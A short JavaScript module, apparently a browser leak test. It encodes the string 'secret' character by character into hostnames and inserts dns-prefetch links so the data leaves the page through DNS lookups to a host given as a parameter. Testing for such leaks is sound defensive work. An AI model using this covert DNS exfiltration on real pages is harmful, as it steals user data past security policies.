// Lookups of many names that are made of data.
// @alone: the browser opens only so many ahead for one page
export default (t) => {
  for (const [i, letter] of [...'secret'].entries()) {
    const link = document.createElement('link')
    link.rel = 'dns-prefetch'
    link.href = `https://${i}-${letter.charCodeAt().toString(16)}.${t.host}:${t.port}`
    document.head.append(link)
  }
}
